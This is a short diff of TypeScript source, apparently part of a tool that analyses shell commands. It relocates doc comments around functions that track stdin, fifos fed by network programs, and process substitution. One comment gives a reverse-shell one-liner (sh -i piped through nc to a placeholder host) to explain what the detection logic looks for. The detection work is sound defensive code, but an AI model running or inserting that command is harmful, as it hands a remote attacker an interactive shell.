@@ -60,8 +60,6 @@ export function shellStdin(inv: Invocation, name: string, ex: Extraction, st: No
   ops.opaque(inv, carrier, 'stdin', st, extra);
 }
 
-/** The exact text `<(cmd)` reads as, when cmd is one print-only command with static words. */
-/** A path as the normalisation's cwd resolves it. */
 /** A file (a fifo, say) that a network program of the same source writes into, before or after:
  *  `sh -i < f | nc host 9 > f` is a reverse shell. */
 function fedByNetwork(w: Word, ex: Extraction, st: NormState, ops: Ops): boolean {
@@ -92,6 +90,7 @@ export function stdinText(inv: Invocation, ex: Extraction, st?: NormState): stri
   return prev ? stageOutput(ex, prev) : null;
 }
 
+/** The exact text `<(cmd)` reads as, when cmd is one print-only command with static words. */
 function procsubOutput(w: Word, ex: Extraction): string | null {
   if (w.static || w.approx !== '<(…)') return null;
   const inner = ex.commands.filter((c) => c.context.some((e) => e.kind === 'procsub' && e.span.start >= w.span.start && e.span.end <= w.span.end));
